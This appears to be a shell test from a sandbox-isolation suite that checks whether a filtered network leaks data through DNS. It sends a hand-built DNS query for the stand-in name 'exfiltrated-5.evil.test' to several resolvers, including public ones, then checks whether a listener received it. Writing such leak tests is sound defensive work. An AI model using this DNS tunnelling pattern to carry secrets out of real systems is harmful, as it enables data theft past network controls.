#!/bin/sh
# net.dns, hazard 51: a secret in questions to every resolver there is.
# run: --net filtered --allow allowed.test
# plant: namespaces.net
act() {
	printf '\022\064\001\000\000\001\000\000\000\000\000\000\015exfiltrated-5\004evil\004test\000\000\001\000\001' >question
	for server in 198.18.0.1 127.0.0.53 127.0.0.1 8.8.8.8 20.1.1.1; do
		/usr/bin/python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(open("question", "rb").read(), (sys.argv[1], 53))' $server
	done
	RES_OPTIONS="timeout:1 attempts:1" getent hosts exfiltrated-5.evil.test
}

happened() {
	heard exfiltrated-5
}

. "$VERIFY/internet.sh"
